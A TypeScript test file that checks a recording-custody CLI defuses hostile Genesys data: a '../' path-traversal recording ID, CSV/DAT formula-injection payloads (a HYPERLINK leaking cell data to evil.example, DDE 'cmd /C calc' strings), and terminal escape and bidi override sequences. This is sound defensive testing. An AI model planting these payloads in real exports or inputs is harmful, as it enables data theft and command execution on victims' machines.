import { createHash, randomBytes } from 'node:crypto';
import { readdir, readFile, rm, writeFile, mkdir } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { parseDat } from '../../../electron/services/packs/load-files';
import { splitCsvLine } from '../../../electron/services/bulk/trading-ids-input';
import { hasUnsafeText } from '../../../shared/unsafe-text';
import type { Dataset, SeedConversation } from '../../sandbox/server';
import { startHarness, TEST_ANCHOR, type Harness } from '../../helpers/engine-harness';
import { storeCliCredentials } from '../../helpers/bulk';
import { runCli } from '../../helpers/run-cli';

/**
 * Genesys answers as an attacker would shape them, through the official SDK against the sandbox:
 * a recording ID that is a path, formulas in attributes that end up in CSV and DAT files, and
 * terminal control sequences and bidi overrides in names.
 */

const tag = randomBytes(4).toString('hex');
const victim = `custody-victim-${tag}`;
const PATH_RECORDING_ID = `../../../../${victim}`;

const formulas = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
  dde: "-2+3+cmd|' /C calc'!A0",
  plus: '+41-PLUS',
  tab: '\tTAB-ACCOUNT',
  cr: '\rCR-ACCOUNT',
};
const terminal = {
  agent: 'Ann \u001b]0;pwned\u0007Lee\u001b[2K\r',
  account: 'ACC\u202e-1337\u2066x\u2069',
};

type Picked = { conversation: SeedConversation; tradingId: string };
const picked: Record<'hyperlink' | 'dde' | 'plus' | 'terminal' | 'path', Picked> = {} as never;

function amend(dataset: Dataset): void {
  const usable = dataset.conversations.filter(
    (c) =>
      c.tradingId &&
      c.recordings.length === 1 &&
      c.recordings[0]!.fileState === 'AVAILABLE' &&
      c.recordings[0]!.durationMs < 90_000 &&
      Date.parse(c.startTime) < TEST_ANCHOR.getTime() - 2 * 86_400_000,
  );
  const attributesOf = (c: SeedConversation) => c.participants.find((p) => p.attributes.trading_id !== undefined)!.attributes;
  const set = (key: keyof typeof picked, c: SeedConversation, tradingId: string, account: string) => {
    c.tradingId = tradingId;
    c.clientAccount = account;
    Object.assign(attributesOf(c), { trading_id: tradingId, client_account: account });
    picked[key] = { conversation: c, tradingId };
  };
  set('hyperlink', usable[0]!, formulas.hyperlink, formulas.tab);
  set('dde', usable[1]!, formulas.dde, formulas.sum);
  set('plus', usable[2]!, formulas.plus, formulas.cr);
  const term = usable[3]!;
  set('terminal', term, `T-TERMINAL-${tag}`, terminal.account);
  dataset.agents.find((a) => a.id === term.agentId)!.name = terminal.agent;
  const path = usable[4]!;
  set('path', path, `T-PATH-${tag}`, 'ACC-PATH');
  path.recordings[0]!.id = PATH_RECORDING_ID;
}

let h: Harness;
let forget: () => Promise<void>;
const cli = (args: ReadonlyArray<string>) => runCli([...args, '--profile', h.profile], { env: h.env, timeoutMs: 120_000 });
const sha = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex');
const outsideVictim = () => join(dirname(h.root), `${victim}.wav`);

beforeAll(async () => {
  h = await startHarness({ worm: inject('worm').connection, sandbox: { amendDataset: amend } });
  forget = await storeCliCredentials(h);
});
afterAll(async () => {
  await forget?.();
  if (h) await rm(outsideVictim(), { force: true });
  await h?.close();
});

/** Every file under `dir`, relative path -> SHA-256. */
async function snapshot(dir: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (entry.isFile()) out.set(join(entry.parentPath, entry.name).slice(dir.length + 1), await sha(join(entry.parentPath, entry.name)));
  }
  return out;
}

function csvRows(text: string): Array<Array<string>> {
  return text
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) => splitCsvLine(line)!);
}

/** What a spreadsheet would run: a cell starting with =, +, -, @, tab or CR. */
const formulaCells = (rows: ReadonlyArray<ReadonlyArray<string>>) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('hostile Genesys data', () => {
  it('refuses a ../ recording ID at the boundary: nothing written or deleted outside the app, nothing deleted inside', async () => {
    const mediaDir = join(h.env.CUSTODY_DATA_DIR!, h.profile, 'media');
    const fetched = await cli(['fetch', '--conversation', picked.plus.conversation.id, '--case', 'FCA-2026-0100', '--out', join(h.root, 'downloads')]);
    expect(fetched.code, fetched.stderr).toBe(0);
    const cacheBefore = await snapshot(mediaDir);
    expect(cacheBefore.size).toBeGreaterThan(0);
    // Where the ID points from the pack's folder and from the media cache.
    const packs = join(h.root, 'packs');
    await mkdir(packs);
    const victims = [join(packs, `${victim}.wav`), join(packs, `${victim}.original.wav`), outsideVictim()];
    for (const path of victims) await writeFile(path, 'evidence that must survive');

    const build = await cli(['pack', 'build', '--trading-id', picked.path.tradingId, '--case', 'FCA-2026-0100', '--out', join(packs, 'pack-1')]);
    expect(build.code).not.toBe(0);
    expect(build.stderr).toMatch(/not a recording id/);
    const fetch = await cli(['fetch', '--conversation', picked.path.conversation.id, '--case', 'FCA-2026-0100', '--out', join(h.root, 'fetched')]);
    expect(fetch.code).not.toBe(0);
    expect(fetch.stderr).toMatch(/not a recording id/);

    for (const path of victims) expect(await readFile(path, 'utf8')).toBe('evidence that must survive');
    expect((await readdir(packs)).sort()).toEqual([`${victim}.original.wav`, `${victim}.wav`]);
    expect((await readdir(dirname(h.root))).filter((name) => name.startsWith(victim))).toEqual([`${victim}.wav`]);
    expect((await readdir(h.root)).filter((name) => name.startsWith(victim) || name === 'fetched')).toEqual([]);
    expect((await readdir(join(h.env.CUSTODY_DATA_DIR!))).filter((name) => name.includes(victim))).toEqual([]);
    expect(await snapshot(mediaDir)).toEqual(cacheBefore);
  });

  it('defuses formulas in manifest.csv, the pack index.csv and the DAT load file', async () => {
    const ids = [picked.hyperlink, picked.dde, picked.plus].map((p) => p.tradingId);
    const requestFile = join(h.root, 'request.csv');
    await writeFile(requestFile, `trading_id\n${ids.map((id) => `"${id.replace(/"/g, '""')}"`).join('\n')}\n`);
    const outDir = join(h.root, 'bulk');
    const retrieve = await cli(['retrieve', '--trading-ids', requestFile, '--case', 'FCA-2026-0101', '--out', outDir]);
    expect(retrieve.code, retrieve.stderr).toBe(0);
    const manifest = csvRows(await readFile(join(outDir, 'manifest.csv'), 'utf8'));
    expect(manifest).toHaveLength(4);

    const packDir = join(h.root, 'formula-pack');
    const build = await cli(['pack', 'build', ...ids.map((id) => `--trading-id=${id}`), '--case', 'FCA-2026-0101', '--out', packDir]);
    expect(build.code, build.stderr).toBe(0);
    const index = csvRows(await readFile(join(packDir, 'data/index.csv'), 'utf8'));
    const dat = parseDat(await readFile(join(packDir, 'data/loadfile.dat'), 'utf8'));
    expect(index).toHaveLength(4);
    expect(dat).toHaveLength(4);

    for (const [name, rows] of [['manifest.csv', manifest], ['index.csv', index], ['loadfile.dat', dat]] as const) {
      expect(formulaCells(rows), name).toEqual([]);
      const cells = rows.flat();
      for (const payload of [formulas.hyperlink, formulas.dde, formulas.plus, formulas.sum]) expect(cells, `${name}: ${payload}`).toContain(`'${payload}`);
      // Tab and CR never arrive raw: Genesys text is escaped on the way in, and the writer would defuse them too.
      expect(cells, name).toContain('\\x09TAB-ACCOUNT');
      expect(cells, name).toContain('\\x0dCR-ACCOUNT');
    }
  });

  it('prints OSC, erase-line and bidi characters from Genesys as visible escapes in custody search', async () => {
    const text = await cli(['search', '--trading-id', picked.terminal.tradingId]);
    expect(text.code, text.stderr).toBe(0);
    const json = await cli(['search', '--trading-id', picked.terminal.tradingId, '--json']);
    expect(json.code, json.stderr).toBe(0);
    for (const output of [text.stdout, text.stderr, json.stdout, json.stderr]) expect(hasUnsafeText(output.replace(/\n/g, ''))).toBe(false);
    expect(text.stdout).toContain('Ann \\x1b]0;pwned\\x07Lee\\x1b[2K\\x0d');
    expect(text.stdout).toContain('ACC\\u202e-1337\\u2066x\\u2069');
    const match = (JSON.parse(json.stdout) as { matches: Array<{ agent: string; clientAccount: string }> }).matches[0]!;
    expect(match).toMatchObject({ agent: 'Ann \\x1b]0;pwned\\x07Lee\\x1b[2K\\x0d', clientAccount: 'ACC\\u202e-1337\\u2066x\\u2069' });
  });
});
